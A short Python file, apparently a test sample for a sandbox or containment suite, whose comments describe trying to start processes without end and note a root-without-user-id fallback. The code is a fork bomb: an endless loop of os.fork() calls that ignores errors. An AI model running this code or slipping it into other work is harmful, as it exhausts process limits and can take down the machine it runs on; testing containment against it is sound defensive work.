# Tries: Start processes without end.
# Cell: negative_back
# Keeps: 35
# Fallback: contained as root alone: without a user id of its own, nothing limits how many processes there are

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
